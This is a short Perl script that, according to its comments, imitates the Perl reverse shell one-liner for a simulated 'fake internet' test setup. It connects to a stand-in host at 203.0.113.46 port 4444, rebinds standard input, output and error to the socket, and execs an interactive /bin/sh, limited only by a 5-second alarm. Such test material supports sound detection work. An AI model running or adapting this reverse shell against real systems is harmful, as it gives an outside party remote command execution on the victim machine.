#!/usr/bin/perl
# Imitates the Perl reverse shell one-liner: socket, STDIN/STDOUT/STDERR re-opened onto it, exec a shell.
# The fake internet's listener sends nothing; an alarm set before the exec ends the shell after 5 s.
use strict;
use Socket;

socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp')) or die;
connect(S, sockaddr_in(4444, inet_aton('203.0.113.46'))) or die "connect: $!";
open(STDIN, '>&S');
open(STDOUT, '>&S');
open(STDERR, '>&S');
alarm 5;
exec { '/bin/sh' } 'sh', '-i';
